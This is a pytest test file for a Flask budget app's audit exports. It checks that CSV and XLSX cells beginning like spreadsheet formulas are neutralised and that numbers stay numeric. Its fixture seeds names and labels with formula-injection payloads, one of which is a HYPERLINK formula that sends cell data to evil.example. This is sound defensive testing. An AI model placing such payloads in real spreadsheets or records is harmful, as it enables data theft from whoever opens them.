"""A spreadsheet export holds data, never formulas: names and labels that start like a formula
come out neutralised, numbers come out as numbers."""

from __future__ import annotations

import csv
import io
import re

import openpyxl
import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import update

from adapters.bootstrap import System
from adapters.demo import DemoPlan
from adapters.people import people
from adapters.spreadsheet import FORMULA_LEADS
from domain.context import acting_as
from domain.plans import Plan
from projections import queries
from tests.e2e.auth_helpers import DEMO_EMAILS, DEMO_PASSWORD, sign_in
from tests.e2e.demo_years import Y1
from web.audit_export import EXPORT_COLUMNS

HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
AT_SUM = "@SUM(1)"
PLUS, MINUS, TAB = "+SUM(A1:A9)", "-2+3", "\t=1+1"


def _person(demo: DemoPlan, first_name: str) -> str:
    return next(p.person_id for p in demo.people if p.name.startswith(first_name))


@pytest.fixture
def hostile(demo_system: System, demo: DemoPlan) -> DemoPlan:
    """Lines, an organisation and people named like formulas, each of them in the history."""
    system, anna, maria = demo_system, _person(demo, "Anna"), _person(demo, "Maria")
    with system.engine.begin() as conn:  # "renaming a person": the people store holds names
        conn.execute(update(people).where(people.c.id == maria).values(name=MINUS))
    newcomer = system.accounts.register(AT_SUM, "sum@example.org", DEMO_PASSWORD)
    with system.engine.connect() as conn:
        lines = queries.budget_sheet(conn, demo.budget_id).lines
    plan = system.app.load(Plan, demo.plan_id)
    org = next(iter(plan.actors))
    with acting_as(anna):
        system.app.rename_line(demo.budget_id, lines[0]["line_id"], HYPERLINK)
        system.app.change_actor(demo.plan_id, org, PLUS, plan.actors[org]["sector"])
        system.app.add_member(demo.plan_id, newcomer, "facilitator")
    with acting_as(newcomer):
        system.app.rename_line(demo.budget_id, lines[1]["line_id"], TAB)
        system.app.change_amount(demo.budget_id, lines[1]["line_id"], Y1, 12_300)
    with acting_as(maria):
        system.app.rename_line(demo.budget_id, lines[2]["line_id"], AT_SUM + " och mer")
    system.projections.wait(system.app.recorder.max_notification_id(), timeout=10)
    return demo


@pytest.fixture
def client(app: Flask) -> FlaskClient:
    client = app.test_client()
    assert sign_in(client, DEMO_EMAILS["Anna Berg"]).status_code == 302
    return client


def _export(client: FlaskClient, plan_id: str) -> str:
    reply = client.get(f"/plans/{plan_id}/audit.csv?lang=en&heads=names")
    assert reply.status_code == 200
    return reply.get_data().decode("utf-8-sig")


def test_no_text_cell_of_the_audit_csv_can_run_as_a_formula(client: FlaskClient, hostile: DemoPlan) -> None:
    rows = list(csv.reader(io.StringIO(_export(client, hostile.plan_id))))
    header, body = rows[0], rows[1:]
    assert header == list(EXPORT_COLUMNS)
    cells = [cell for row in body for cell in row[1:]]  # every text column
    assert not [c for c in cells if c.startswith(FORMULA_LEADS)], "a cell a spreadsheet would run"
    for payload in (HYPERLINK, AT_SUM, PLUS, MINUS, TAB.strip()):  # labels are kept stripped
        assert "'" + payload in cells, f"{payload!r} not exported (neutralised)"
    # the same text inside a sentence needs nothing: only a cell's start is a formula
    assert any(HYPERLINK in c and not c.startswith("'") for c in cells)


def test_numbers_in_the_audit_csv_stay_numbers(client: FlaskClient, hostile: DemoPlan) -> None:
    text = _export(client, hostile.plan_id)
    lines = text.split("\r\n")[1:-1]
    # the position is written bare (a number to a spreadsheet), every text cell quoted
    assert lines and all(re.match(r'\d+,"', line) for line in lines), lines[:3]
    rows = list(csv.DictReader(io.StringIO(text)))
    positions = [int(r["position"]) for r in rows]
    assert positions == sorted(positions, reverse=True)


def test_no_text_cell_of_the_audit_xlsx_can_run_as_a_formula(
        client: FlaskClient, hostile: DemoPlan) -> None:
    reply = client.get(f"/plans/{hostile.plan_id}/audit.xlsx?lang=en")
    assert reply.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(reply.get_data())).worksheets[0]
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row if c.value is not None]
    assert not [c.value for c in cells if c.data_type == "f"], "a formula in the workbook"
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not [t for t in texts if t.startswith(FORMULA_LEADS)]
    for payload in (HYPERLINK, AT_SUM, PLUS, MINUS, TAB.strip()):
        assert "'" + payload in texts, f"{payload!r} not exported (neutralised)"
    positions = [row[0].value for row in sheet.iter_rows(min_row=2)]
    assert positions and all(isinstance(p, int) for p in positions)


def test_the_swedish_audit_csv_neutralises_text_too(client: FlaskClient, hostile: DemoPlan) -> None:
    reply = client.get(f"/plans/{hostile.plan_id}/audit.csv?lang=sv")
    rows = list(csv.reader(io.StringIO(reply.get_data().decode("utf-8-sig")), delimiter=";"))
    cells = [cell for row in rows[1:] for cell in row[1:]]
    assert not [c for c in cells if c.startswith(FORMULA_LEADS)]
    assert "'" + HYPERLINK in cells and "'" + MINUS in cells
